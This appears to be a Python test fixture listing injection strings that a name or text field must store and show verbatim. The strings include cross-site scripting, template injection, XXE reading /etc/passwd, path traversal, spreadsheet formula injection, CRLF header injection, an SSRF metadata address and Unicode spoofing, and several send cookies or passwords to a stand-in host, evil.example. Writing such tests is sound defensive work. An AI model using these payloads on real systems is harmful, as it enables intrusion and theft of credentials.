"""What somebody may write as a name, a title or a text to make a machine do something. Each is to be shown as it is.

All of them fit where a name fits (200 characters) and can be stored; ``REFUSED`` cannot.
"""

_CALL = "fetch('https://evil.example/'+document.cookie)"

PAYLOADS: dict[str, str] = {
    # Markup
    "script": "<script>alert(1)</script>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script that ends another": "</script><script>alert(2)</script>",
    "picture that fails": "<img src=x onerror=alert(3)>",
    "picture from elsewhere": '<img src="https://evil.example/p.png">',
    "end of an attribute": '" onmouseover="alert(4)" x="',
    "end of an attribute, single": "' onfocus='alert(5)' autofocus='",
    "end of an element": '"><svg/onload=alert(6)>',
    "end of the title": "</title><script>alert(7)</script>",
    "end of a text field": "</textarea><script>alert(8)</script>",
    "end of a comment": "--><script>alert(9)</script><!--",
    "drawing": "<svg><animate onbegin=alert(10) attributeName=x dur=1s>",
    "drawing with a document": '<svg><foreignObject><iframe src="javascript:alert(11)"></foreignObject></svg>',
    "formula of mathematics": '<math><mtext></form><form><mglyph><style></math><img src onerror="alert(12)">',
    "details": "<details open ontoggle=alert(13)>",
    "frame": '<iframe srcdoc="<script>parent.alert(14)</script>"></iframe>',
    "object": '<object data="data:text/html,<script>alert(15)</script>"></object>',
    "form": '<form action="https://evil.example/"><input name=password></form>',
    "other base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style": "<style>@import 'https://evil.example/a.css';*{display:none}</style>",
    "style of an element": '<div style="position:fixed;inset:0;background:url(https://evil.example/b)">',
    "element without an end": "<a href='https://evil.example/'",
    "entities": "&lt;script&gt;alert(16)&lt;/script&gt;",
    "entities, numbered": "&#60;img src=x onerror=alert(17)&#62;",
    "document type": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    "instruction": '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
    "section": "<![CDATA[<script>alert(18)</script>]]>",
    "htmx": '<b hx-get="https://evil.example/" hx-trigger="load" hx-on::load="alert(19)">',
    # Templates and scripts
    "template of Django": "{{ request.user.password }}{% load x %}{% include '/etc/passwd' %}",
    "template of Jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "template of scripts": "${alert(20)}#{alert(20)}<%= 7*7 %>",
    "template of Angular": "{{constructor.constructor('alert(21)')()}}",
    "format": "%(by)s %s %n {0.__class__} {by.password}",
    "text of a script": "';alert(22);//\\';alert(22)//",
    "polyglot": f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={_CALL} )//",
    # Addresses
    "address that runs": "javascript:alert(23)",
    "address that is data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgyNCk8L3NjcmlwdD4=",
    "path": "../../../../etc/passwd",
    "path of Windows": "..\\..\\windows\\win.ini",
    # Files that are drawn
    "attachment of a PDF": '<link rel="attachment" href="file:///etc/passwd">',
    "style of a PDF": "<link rel=stylesheet href='http://169.254.169.254/latest/meta-data/'>",
    # Spreadsheets
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "formula that runs": "=cmd|' /C calc'!A0",
    "formula by plus": "+1+1",
    "formula by minus": "-2+3+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula of full width": "＝1＋1",
    "formula after a space": " =1+1",
    "end of a cell": '";=1+1;"',
    # Headers of mail and of answers
    "header of mail": "Aino\r\nBcc: everybody@evil.example\r\n\r\nHello",
    "header of an answer": "x\r\nSet-Cookie: sessionid=1\r\n\r\n<script>alert(25)</script>",
    "quotes of an address": '"Aino" <evil@evil.example>, ',
    # Letters
    "end of a line by Unicode": "Aino\u2028alert(26)\u2029Korhonen",
    "from right to left": "Aino\u202enenohroK\u202c",
    "isolated": "Aino\u2067Korhonen\u2066",
    "control characters": "Aino\x07\x1b[2JKorhonen\x7f",
    "nothing to see": "A\u200bi\u200dn\u2060o\ufeff",
    "other letters that look alike": "Аino Кorhonen",
    "marks on marks": "A" + "\u0301\u0323\u0308" * 20 + "ino",
    "pictures": "Aino 👩‍💻🏳️‍🌈",
    "from right to left in earnest": "אינו كورهونن",
    "long": "W" * 200,
}

# What no form takes, since no text holds it.
REFUSED = {"nothing at all": "Aino\0Korhonen"}


def as_kept(payload: str) -> str:
    """A name as it is kept: without spaces around it, and with one where there were several."""
    return " ".join(payload.split())
